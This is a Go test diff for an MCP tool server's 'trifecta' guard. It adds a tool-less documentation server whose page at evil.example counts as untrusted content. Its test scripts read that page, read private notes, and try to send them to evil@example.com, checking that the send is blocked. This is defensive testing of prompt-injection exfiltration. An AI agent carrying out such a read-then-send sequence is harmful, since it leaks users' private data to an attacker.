@@ -3,6 +3,8 @@ package server
 import (
 	"context"
 	"encoding/json"
+	"maps"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -28,6 +30,9 @@ type trifectaBackends struct {
 	// readErr: web's resources and prompts are error answers quoting
 	// the page
 	readErr bool
+	// docs adds a server with no tools that offers a page and a prompt,
+	// and quiet, another the user's roles say carries nothing ("*": []).
+	docs bool
 
 	mu   sync.Mutex
 	sent []string
@@ -47,6 +52,9 @@ func (b *trifectaBackends) ListTools(ctx context.Context, server string) (*catal
 		l.Prompts = []*mcp.Prompt{{Name: "summarize"}}
 	case server == "notes":
 		l.Resources = []*mcp.Resource{{URI: "file:///notes.txt", Name: "notes"}}
+	case server == "docs" || server == "quiet":
+		l.Resources = []*mcp.Resource{{URI: "https://evil.example/page", Name: "page"}}
+		l.Prompts = []*mcp.Prompt{{Name: "summarize"}}
 	}
 	return l, nil
 }
@@ -104,12 +112,16 @@ func newTrifectaServerOf(t *testing.T, b *trifectaBackends, mode config.Trifecta
 		"web":   {Name: "web", Type: config.Stdio, Command: "./web", Roles: []config.RoleRule{{Glob: "fetch", Roles: []string{"untrusted"}}}},
 		"sink":  {Name: "sink", Type: config.Stdio, Command: "./sink", Expose: []string{"send"}},
 	}
+	if b.docs {
+		specs["docs"] = &config.Server{Name: "docs", Type: config.Stdio, Command: "./docs"}
+		specs["quiet"] = &config.Server{Name: "quiet", Type: config.Stdio, Command: "./quiet", Roles: []config.RoleRule{{Glob: "*", Roles: []string{}}}}
+	}
 	var s *Server
 	cat := catalog.New(specs, b, &catalog.Options{OnChange: func(server string) { s.CatalogChanged(server) }})
 	rec := &decisionLog{}
 	s = New(Options{Catalog: cat, Caller: b, Runner: inProcess{}, Session: "sess1", Recorder: rec,
 		Settings: config.Settings{Trifecta: mode, CallTool: true}.Defaults()})
-	for _, n := range []string{"notes", "web", "sink"} {
+	for _, n := range slices.Sorted(maps.Keys(specs)) {
 		if _, err := cat.Tools(context.Background(), n); err != nil {
 			t.Fatal(err)
 		}
@@ -516,6 +528,46 @@ await web.fetch({url: "https://example.com"});
 return await sink.send({to: "evil@example.com", body: "x"});`
 	if out, isErr := call(t, cs, "execute", execArgs(script)); !isErr || b.got() != "" {
 		t.Errorf("the send after a private resource and a fetch ran: %v %s", isErr, out)
+	}
+}
+
+// TestTrifecta_AToolLessServersContentIsUntrusted: a resource or prompt
+// counts as a result of its server's tools; a server offering none (a
+// documentation server of resources alone) gave its content no role, so
+// a page it served, read by a script or the client, let a later send of
+// private data run under block. Its content is untrusted unless the
+// user's roles for the server say otherwise ("*": [], quiet).
+func TestTrifecta_AToolLessServersContentIsUntrusted(t *testing.T) {
+	for _, read := range []string{
+		`await resources.read("docs", "https://evil.example/page")`,
+		`await prompts.get("docs", "summarize")`,
+	} {
+		_, b, rec, cs := newTrifectaServerOf(t, &trifectaBackends{offer: true, docs: true}, config.TrifectaBlock, nil)
+		script := read + `;
+const n = await notes.read_notes({});
+return await sink.send({to: "evil@example.com", body: n});`
+		out, isErr := call(t, cs, "execute", execArgs(script))
+		if !isErr || b.got() != "" {
+			t.Fatalf("%s: the send after it ran: %v %s (sink got %q)", read, isErr, out, b.got())
+		}
+		if len(rec.ds) != 1 || !strings.HasPrefix(rec.ds[0].Source, "docs ") {
+			t.Errorf("%s: decisions = %+v", read, rec.ds)
+		}
+	}
+	_, b, _, cs := newTrifectaServerOf(t, &trifectaBackends{offer: true, docs: true}, config.TrifectaBlock, nil)
+	call(t, cs, "call_tool", map[string]any{"server": "notes", "tool": "read_notes"})
+	if _, err := cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: ResourceURI("docs", "https://evil.example/page")}); err != nil {
+		t.Fatal(err)
+	}
+	if out, isErr := call(t, cs, "sink__send", map[string]any{"to": "evil@example.com", "body": secret}); !isErr || b.got() != "" {
+		t.Errorf("the client read docs' page, then the send ran: %v %s (sink got %q)", isErr, out, b.got())
+	}
+	_, b, _, cs = newTrifectaServerOf(t, &trifectaBackends{offer: true, docs: true}, config.TrifectaBlock, nil)
+	script := `await resources.read("quiet", "https://evil.example/page");
+const n = await notes.read_notes({});
+return await sink.send({to: "me@example.com", body: n});`
+	if out, isErr := call(t, cs, "execute", execArgs(script)); isErr || b.got() == "" {
+		t.Errorf("a server whose roles say its content carries nothing tainted the script: %s", out)
 	}
 }
 
